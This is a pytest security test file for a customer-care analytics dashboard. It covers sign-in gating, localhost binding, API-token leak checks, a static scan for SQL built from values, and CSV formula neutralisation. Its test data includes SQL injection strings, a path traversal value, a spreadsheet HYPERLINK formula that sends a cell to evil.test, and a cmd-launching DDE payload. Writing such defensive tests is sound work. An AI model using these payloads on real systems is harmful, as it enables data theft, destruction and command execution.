"""Security: where the dashboard listens, sign-in, secrets, injection and spreadsheet exports.

- Access: `carepulse dashboard` binds 127.0.0.1 unless told otherwise; with a password (env or
  Streamlit secrets, plain or hashed) or OIDC configured, every page shows only the sign-in until
  the session is signed in, whatever route it takes.
- Injection: hostile URL parameters render without an exception and leave the database as it
  was; no Python file formats values into SQL text (a static scan).
- Secrets: X_* tokens never appear in the output, logs, exceptions or files of any CLI command.
- Exports: CSV cells that a spreadsheet would evaluate are neutralised.
"""
from __future__ import annotations

import ast
import base64
import hashlib
import io
import logging
import os
import re
import shutil
import traceback
import urllib.parse
from pathlib import Path

import pandas as pd
import pytest
import streamlit as st
from streamlit.testing.v1 import AppTest

from dashboard import auth, export
from tests.conftest import ROOT, SHARED_DATA

APP = str(ROOT / "dashboard" / "app.py")
PASSWORD = "correct horse battery staple"


@pytest.fixture(autouse=True)
def clear_streamlit_caches():
    st.cache_data.clear()
    st.cache_resource.clear()
    yield
    st.cache_data.clear()
    st.cache_resource.clear()


@pytest.fixture(scope="module")
def loaded(tmp_path_factory) -> Path:
    """The real sample loaded once; tests only read it (and check that they did not change it)."""
    from etl.cli import main
    from tests.conftest import TWCS_5000, shared

    folder = tmp_path_factory.mktemp("security")
    db = folder / "carepulse.duckdb"
    cwd = Path.cwd()
    os.chdir(folder)                       # no carepulse.toml of the developer's in play
    try:
        assert main(["load", "twcs", str(shared(TWCS_5000)), "--db", str(db)]) == 0
    finally:
        os.chdir(cwd)
    return db


@pytest.fixture
def dash(loaded, monkeypatch) -> Path:
    monkeypatch.setenv("CAREPULSE_DB", str(loaded))
    monkeypatch.delenv("CAREPULSE_PASSWORD", raising=False)
    return loaded


def digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def app() -> AppTest:
    return AppTest.from_file(APP, default_timeout=120)


def shows_data(at: AppTest) -> bool:
    return bool(len(at.metric) or len(at.dataframe) or len(at.get("plotly_chart")))


def shows_only_sign_in(at: AppTest) -> bool:
    inputs = [t.label for t in at.text_input]
    return (not at.exception and not shows_data(at) and inputs == ["Password"]
            and [b.label for b in at.button] == ["Sign in"] and not len(at.sidebar.multiselect))


def sign_in(at: AppTest, password: str) -> AppTest:
    at.text_input[0].input(password)
    at.button[0].click()
    return at.run()


# ---------------------------------------------------------------------------------------- access
def test_dashboard_binds_localhost_by_default(dash, cli, monkeypatch):
    calls = []
    monkeypatch.setattr("etl.cli.os.execve", lambda path, cmd, env: calls.append((cmd, env)))
    monkeypatch.setenv("X_BEARER_TOKEN", "bearer-never-needed-by-the-dashboard")
    code, out, err = cli("dashboard", "--db", dash)
    assert code == 0
    cmd, env = calls[0]
    option = dict(zip(cmd[cmd.index(APP) + 1::2], cmd[cmd.index(APP) + 2::2]))
    assert option["--server.address"] == "127.0.0.1"
    assert "http://127.0.0.1:8501" in out
    assert "--server.enableXsrfProtection" not in option and "--server.enableCORS" not in option
    assert "X_BEARER_TOKEN" not in env and env["CAREPULSE_DB"] == str(dash.resolve())
    assert err == ""


def test_exposing_without_sign_in_warns(dash, cli, monkeypatch, tmp_path):
    calls = []
    monkeypatch.setattr("etl.cli.os.execve", lambda path, cmd, env: calls.append(cmd))
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("HOME", str(tmp_path))
    code, _, err = cli("dashboard", "--db", dash, "--address", "0.0.0.0")
    assert code == 0 and "no sign-in is configured" in err
    assert calls[0][calls[0].index("--client.showErrorDetails") + 1] == "type"
    monkeypatch.setenv("CAREPULSE_PASSWORD", PASSWORD)
    code, _, err = cli("dashboard", "--db", dash, "--address", "0.0.0.0")
    assert code == 0 and err == ""


def test_without_a_password_the_app_opens(dash):
    at = app().run()
    assert not at.exception
    assert shows_data(at)
    assert not [t for t in at.text_input if t.label == "Password"]


@pytest.mark.parametrize("how", ["env", "secrets-plain", "secrets-hash"])
def test_with_a_password_pages_wait_for_sign_in(how, dash, monkeypatch):
    at = app()
    if how == "env":
        monkeypatch.setenv("CAREPULSE_PASSWORD", PASSWORD)
    elif how == "secrets-plain":
        at.secrets["auth"] = {"password": PASSWORD}
    else:
        at.secrets["auth"] = {"password_hash": auth.make_hash(PASSWORD, iterations=1000)}
    at.run()
    assert shows_only_sign_in(at)
    monkeypatch.setattr(auth, "FAILURE_DELAY_S", 0.0)
    sign_in(at, PASSWORD.upper())
    assert shows_only_sign_in(at) and at.error[0].value == "Wrong password."
    sign_in(at, PASSWORD)
    assert not at.exception and shows_data(at)
    assert not [t for t in at.text_input if t.label == "Password"]
    at.sidebar.button(key="_carepulse_sign_out").click().run()
    assert shows_only_sign_in(at)


def test_every_page_route_shows_only_the_sign_in(dash, monkeypatch):
    """A page file run on its own (AppTest can; Streamlit did in pages-folder mode) shows only the
    sign-in: the data layer refuses such a session too."""
    from dashboard.routes import PAGES

    monkeypatch.setenv("CAREPULSE_PASSWORD", PASSWORD)
    for name, *_ in PAGES:
        at = app()
        at.switch_page(f"views/{name}.py")
        at.run()
        assert shows_only_sign_in(at), name


def test_queries_refuse_a_session_that_is_not_signed_in(dash, monkeypatch):
    monkeypatch.setenv("CAREPULSE_PASSWORD", PASSWORD)
    at = AppTest.from_string(
        "import streamlit as st\nfrom dashboard import data\n"
        "st.dataframe(data.run('meta/brands'))\n", default_timeout=60)
    at.run()
    assert shows_only_sign_in(at)


def test_a_changed_password_signs_sessions_out(dash, monkeypatch):
    monkeypatch.setenv("CAREPULSE_PASSWORD", PASSWORD)
    at = sign_in(app().run(), PASSWORD)
    assert shows_data(at)
    monkeypatch.setenv("CAREPULSE_PASSWORD", "a new password after a leak")
    assert shows_only_sign_in(at.run())


OIDC = {"redirect_uri": "http://localhost:8501/oauth2callback", "cookie_secret": "c" * 32,
        "client_id": "carepulse", "client_secret": "s", "allowed_domains": ["example.com"],
        "server_metadata_url": "https://login.example.com/.well-known/openid-configuration"}


@pytest.mark.parametrize("user, allowed", [
    ({"is_logged_in": False}, False),
    ({"is_logged_in": True, "email": "ann@example.com"}, True),
    ({"is_logged_in": True, "email": "ANN@Example.com"}, True),
    ({"is_logged_in": True, "email": "eve@evil.test"}, False),
    ({"is_logged_in": True, "email": "eve@example.com.evil.test"}, False),
    ({"is_logged_in": True, "email": "ann@example.com", "email_verified": False}, False),
])
def test_oidc_login_gates_pages_and_checks_the_allow_list(user, allowed, dash):
    at = app()
    at.secrets["auth"] = OIDC
    at.user = user
    at.run()
    assert not at.exception
    assert shows_data(at) == allowed
    if not user["is_logged_in"]:
        assert [b.label for b in at.button] == ["Log in"]
    elif not allowed:
        assert "may not open this dashboard" in at.error[0].value


def test_password_checks():
    stored = auth.make_hash(PASSWORD, iterations=1000)
    assert auth.Password(scheme_hash=stored).matches(PASSWORD)
    assert not auth.Password(scheme_hash=stored).matches(PASSWORD + " ")
    assert not auth.Password(scheme_hash="md5$1$00$00").matches(PASSWORD)
    assert not auth.Password(scheme_hash="garbage").matches("")
    assert auth.Password(plain=PASSWORD).matches(PASSWORD)
    assert not auth.Password(plain=PASSWORD).matches(PASSWORD[:-1])
    assert not auth.Password(plain="").matches("")
    assert PASSWORD not in repr(auth.Password(plain=PASSWORD))


# ------------------------------------------------------------------------------------- injection
HOSTILE = [     # the last one matters most: pages that take one value take the last
    "AmazonHelp' or '1'='1",
    '" or 1=1 --',
    "Robert'); delete from messages; --",
    "$brands",
    "2017-13-45",
    "1e309",
    "-1",
    "0x7fffffff",
    "\u202eصباح😀\u0000\n\r",
    "../../etc/passwd",
    "x" * 20_000,
    "'; drop table messages; --",
]
URL_PARAMS = ("brand", "from", "to", "sla", "clock", "grain", "answered", "dm", "sentiment",
              "campaign", "frt_above", "conv", "event", "spike", "page")


def test_hostile_url_params_render_and_change_nothing(dash):
    from dashboard.routes import PAGES

    before = digest(dash)
    for name, *_ in PAGES:
        at = app()
        for param in URL_PARAMS:
            at.query_params[param] = list(HOSTILE)
        if name != "overview":
            at.switch_page(f"views/{name}.py")
        at.run()
        assert not at.exception, (name, [e.value for e in at.exception])
    assert digest(dash) == before


def test_hostile_conversation_id_in_the_text_box(dash):
    before = digest(dash)
    at = app()
    at.switch_page("views/conversations.py")
    at.run()
    assert [t.key for t in at.text_input] == ["c_conv"]
    for value in HOSTILE:
        at.text_input(key="c_conv").input(value).run()
        assert not at.exception, value
    assert digest(dash) == before


SQL_START = re.compile(
    r"^\s*(select|with|insert|update|delete|create|drop|alter|attach|detach|copy|pragma|set|"
    r"install|export|import|call|use|merge)\b", re.I)


def _sql_like(text: str | None) -> bool:
    return bool(text) and bool(SQL_START.search(text)) and len(text.split()) > 2


def _literal(node) -> str | None:
    if isinstance(node, ast.JoinedStr):
        return "".join(v.value if isinstance(v, ast.Constant) else " {} " for v in node.values)
    if isinstance(node, ast.Constant) and isinstance(node.value, str):
        return node.value
    return None


IDENTIFIER_MARK = "# sql-identifier"


def formatted_sql(source: str) -> list[tuple[int, str]]:
    """Places that build SQL text from values: f-strings, % or + with SQL-looking literals, and
    SQL-looking .format() templates. A line marked `# sql-identifier: <why>` declares that what
    it formats is an identifier from the code itself (a schema name), never a value."""
    lines = source.splitlines()
    found = []
    for node in ast.walk(ast.parse(source)):
        span = range(getattr(node, "lineno", 0), (getattr(node, "end_lineno", 0) or 0) + 1)
        if any(IDENTIFIER_MARK in lines[n - 1] for n in span if n):
            continue
        text = None
        if isinstance(node, ast.JoinedStr) and any(isinstance(v, ast.FormattedValue)
                                                   for v in node.values):
            text = _literal(node)
        elif isinstance(node, ast.BinOp) and isinstance(node.op, (ast.Mod, ast.Add)):
            text = _literal(node.left) or _literal(node.right)
        elif (isinstance(node, ast.Call) and isinstance(node.func, ast.Attribute)
              and node.func.attr == "format"):
            text = _literal(node.func.value)
        if _sql_like(text):
            found.append((node.lineno, text.strip().splitlines()[0][:80]))
    return sorted(found)


def test_the_scan_finds_formatted_sql():
    bad = (
        'con.execute(f"select * from messages where brand = \'{brand}\'")\n'
        'con.execute("delete from messages where id = %s" % x)\n'
        'q = "select * from t where a = {}".format(a)\n'
        'con.execute("select * from t where b = \'" + b + "\'")\n'
    )
    assert [line for line, _ in formatted_sql(bad)] == [1, 2, 3, 4]
    assert formatted_sql('con.execute("select * from t where a = $a", {"a": a})\n'
                         'print(f"selected {n} rows")\n'
                         'con.execute(f"use {SCOPE}")  # sql-identifier: a module constant\n') == []


def test_no_python_file_formats_values_into_sql():
    """Product code (etl, dashboard, sql, bench) binds values as $params; tests may name their
    own tables in f-strings, so they are not scanned."""
    offenders = []
    for path in _product_sources():
        for line, text in formatted_sql(path.read_text(encoding="utf-8")):
            offenders.append(f"{path.relative_to(ROOT)}:{line}: {text}")
    assert offenders == []


def _product_sources() -> list[Path]:
    """The project's own .py files under etl, dashboard, sql and bench (not scratch output)."""
    folders = ("etl", "dashboard", "sql", "bench")
    skip = {"out", "__pycache__", ".venv"}
    return sorted(p for folder in folders for p in (ROOT / folder).rglob("*.py")
                  if not skip & set(p.relative_to(ROOT).parts))


# --------------------------------------------------------------------------------------- exports
def test_csv_export_neutralises_formulas():
    frame = pd.DataFrame({
        "text": ["=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")", "+1+1", "-2+3", "@SUM(A1)",
                 "\t=1", "\r=1", "\uff1d1", "fine", "a=b", "", None, "x - y"],
        "minutes": [-5.5, 1, 2, 3, 4, 5, 6, 7, 8, 9, 10, 11],
        "count": [-1] * 12,
    })
    frame["brand"] = pd.Categorical(["=evil", "ok"] * 6)
    frame["=header"] = "v"
    data = export.to_csv_bytes(frame)
    assert data.startswith(b"\xef\xbb\xbf")
    back = pd.read_csv(io.BytesIO(data), encoding="utf-8-sig", keep_default_na=False, dtype=str)
    assert list(back.columns) == ["text", "minutes", "count", "brand", "'=header"]
    assert back["text"].tolist() == [
        "'=HYPERLINK(\"http://evil.test/?\"&A1,\"Click\")", "'+1+1", "'-2+3", "'@SUM(A1)",
        "'\t=1", "'\r=1", "'\uff1d1", "fine", "a=b", "", "", "x - y"]
    assert back["minutes"].tolist()[0] == "-5.5" and back["count"].tolist()[0] == "-1"
    assert back["brand"].tolist()[:2] == ["'=evil", "ok"]
    unsafe = [v for v in back.to_numpy().ravel()
              if isinstance(v, str) and v[:1] in ("=", "+", "@", "\t", "\r")]
    assert unsafe == []
    assert frame["text"][0].startswith("=")            # the caller's frame is not modified


def test_csv_export_of_real_messages_round_trips(dash):
    import duckdb

    con = duckdb.connect(str(dash), read_only=True)
    messages = con.execute("select message_id, brand, created_at, text from messages "
                           "order by message_id").df()
    con.close()
    messages.loc[0, "text"] = "=cmd|' /C calc'!A0"
    back = pd.read_csv(io.BytesIO(export.to_csv_bytes(messages)), encoding="utf-8-sig",
                       dtype=str, keep_default_na=False)
    assert len(back) == len(messages)
    want = [export.neutralise(t) for t in messages["text"]]
    assert back["text"].tolist() == want               # emoji, newlines, quotes survive
    assert back["text"][0] == "'=cmd|' /C calc'!A0"


def test_parquet_export_keeps_exact_values():
    frame = pd.DataFrame({"text": ["=1+1", "fine", None], "n": [-1, 0, 1]})
    back = pd.read_parquet(io.BytesIO(export.to_parquet_bytes(frame)))
    pd.testing.assert_frame_equal(back, frame)
    safe = pd.read_parquet(io.BytesIO(export.to_parquet_bytes(frame, neutralise_formulas=True)))
    assert safe["text"].tolist()[:2] == ["'=1+1", "fine"] and pd.isna(safe["text"][2])


# --------------------------------------------------------------------------------------- secrets
TOKENS = {
    "X_BEARER_TOKEN": "AAAAAAAAAAAAAAAAAAAAAbearer%2FSeCrEt%3Dtoken9271",
    "X_CONSUMER_KEY": "ck-SeCrEt-consumer-key-4417",
    "X_CONSUMER_SECRET": "cs-SeCrEt-consumer-secret-8830",
    "X_ACCESS_TOKEN": "1000000001-SeCrEt-access-token-1166",
    "X_ACCESS_TOKEN_SECRET": "ats-SeCrEt-access-secret-5502",
}


def _forms(token: str) -> set[str]:
    """The token and the encodings it could leak in (URL-quoted or -unquoted, base64)."""
    forms = {token, urllib.parse.quote(token, safe=""), urllib.parse.unquote(token),
             base64.b64encode(token.encode()).decode()}
    return {f for f in forms if len(f) >= 12}


def _leaks(text: str) -> list[str]:
    return [name for name, token in TOKENS.items() for form in _forms(token) if form in text]


def _file_leaks(folder: Path) -> list[str]:
    found = []
    for path in folder.rglob("*"):
        if path.is_file():
            data = path.read_bytes()
            found += [f"{path.name}: {name}" for name, token in TOKENS.items()
                      for form in _forms(token) if form.encode() in data]
    return found


def _database_leaks(folder: Path) -> list[str]:
    """Tokens in any table of any database under `folder` (the file itself is compressed, so
    its bytes alone prove nothing)."""
    import duckdb

    found = []
    for path in folder.rglob("*.duckdb"):
        con = duckdb.connect(str(path), read_only=True)
        try:
            tables = [t for (t,) in con.execute(
                "select table_name from information_schema.tables").fetchall()]
            for table in tables:
                rows = repr(con.execute(f'select * from "{table}"').fetchall())
                found += [f"{path.name}.{table}: {n}" for n in _leaks(rows)]
        finally:
            con.close()
    return found


def _invocations(tmp: Path, twcs_file: Path) -> dict[str, list[list[str]]]:
    """Command -> argument lists run with the tokens in the environment. A command missing here
    still runs with --help (and the test lists it, so it gets a real invocation)."""
    db = str(tmp / "carepulse.duckdb")
    x_fixture = ROOT / "tests" / "fixtures" / "x_api" / "mentions_1.json"
    nab = SHARED_DATA / "nab" / "Twitter_volume_AAPL.csv"
    return {
        "load": [["load", "twcs", str(twcs_file), "--db", db, "--json"],
                 ["load", "twcs", str(tmp / "missing.csv"), "--db", db],
                 ["load", "x-json", str(x_fixture), "--brand", "acmecare", "--db", db]],
        "demo": [["demo", "--db", str(tmp / "demo" / "demo.duckdb"), "--rows", "3000",
                  "--days", "14"]],
        "derive": [["derive", "--db", db]],
        "metrics": [["metrics", "--list"], ["metrics", "response-times", "--db", db,
                                            "--format", "json"]],
        "spikes": [["spikes", "--input", str(nab), "--output", str(tmp / "spikes.csv")],
                   ["spikes", "--db", db, "--format", "json"]],
        "dashboard": [["dashboard", "--db", db]],
        "pull": [["pull", "--brand", "acmecare", "--db", db, "--save-responses", str(tmp / "raw")]],
    }


def test_tokens_never_appear_in_any_command_output(cli, twcs_5000, tmp_path, monkeypatch, caplog):
    from etl.cli import build_parser
    from tests.bad_input import Sample, Writer

    for name, token in TOKENS.items():
        monkeypatch.setenv(name, token)
    monkeypatch.setattr("etl.cli.os.execve", lambda path, cmd, env: None)
    monkeypatch.chdir(tmp_path)
    caplog.set_level(logging.DEBUG)
    sample = Sample.read(twcs_5000)
    small = Writer(sample.header)
    small.rows(sample.rows)
    twcs_file = small.save(tmp_path / "small.csv")

    commands = sorted(build_parser()._subparsers._group_actions[0].choices)
    invocations = _invocations(tmp_path, twcs_file)
    output, ran = [], []
    ordered = [c for c in invocations if c in commands] + [c for c in commands if c not in invocations]
    for command in ordered:                 # loads first: later commands read their database
        for args in invocations.get(command, [[command, "--help"]]):
            if command == "pull":
                with _fake_x(monkeypatch):
                    output.append(_run(cli, args))
            else:
                output.append(_run(cli, args))
            ran.append(" ".join(args[:2]))
    output.append(caplog.text)
    text = "\n".join(output)
    assert _leaks(text) == [], "a token appears in the output"
    assert _file_leaks(tmp_path) == [], "a token appears in a file (database, archive, export)"
    assert _database_leaks(tmp_path) == [], "a token appears in a database table"
    untested = [c for c in commands if c not in invocations]
    assert untested == [], f"give these commands a real invocation here: {untested}"
    assert ran


def _run(cli, args: list[str]) -> str:
    try:
        code, out, err = cli(*args)
        return f"{code}\n{out}\n{err}"
    except SystemExit as exc:       # argparse's --help and usage errors
        return f"exit {exc.code}"
    except Exception as exc:        # an exception's text and traceback must not leak either
        return "".join(traceback.format_exception(exc))


class _fake_x:
    """The X API as a local fake server (tests/fake_x_server.py), never the network."""

    def __init__(self, monkeypatch):
        self.monkeypatch = monkeypatch

    def __enter__(self):
        from tests.fake_x_server import FakeX, serve

        self.fake = FakeX()
        self.server = serve(self.fake, max_requests=200, deadline=60.0)
        self.monkeypatch.setenv("X_API_BASE_URL", self.server.__enter__())
        return self

    def __exit__(self, *exc):
        self.server.__exit__(*exc)
        headers = " ".join(str(r["headers"]) for r in self.fake.requests)
        # the tokens do reach the API (as they must), in the Authorization header only
        assert self.fake.requests and ("Bearer" in headers or "OAuth" in headers)
        urls = " ".join(r["url"] for r in self.fake.requests)
        assert _leaks(urls) == [], "a token in a request URL (proxies and server logs keep URLs)"
        return False


def test_pull_failures_do_not_leak_tokens(cli, tmp_path, monkeypatch, caplog):
    if not (ROOT / "etl" / "cli_x.py").exists():
        pytest.skip("no `carepulse pull` yet")
    for name, token in TOKENS.items():
        monkeypatch.setenv(name, token)
    caplog.set_level(logging.DEBUG)
    outputs = []
    for status in (401, 403, 400):
        with _fake_x(monkeypatch) as x:
            x.fake.fail(r"/", status=status, times=1000,
                        body={"title": "Unauthorized", "detail": "bad token"})
            outputs.append(_run(cli, ["pull", "--brand", "acmecare", "--db",
                                      str(tmp_path / "x.duckdb")]))
    text = "\n".join(outputs) + caplog.text
    assert all(o.startswith("1\n") for o in outputs), outputs
    assert _leaks(text) == []
    assert _file_leaks(tmp_path) == []
    shutil.rmtree(tmp_path, ignore_errors=True)
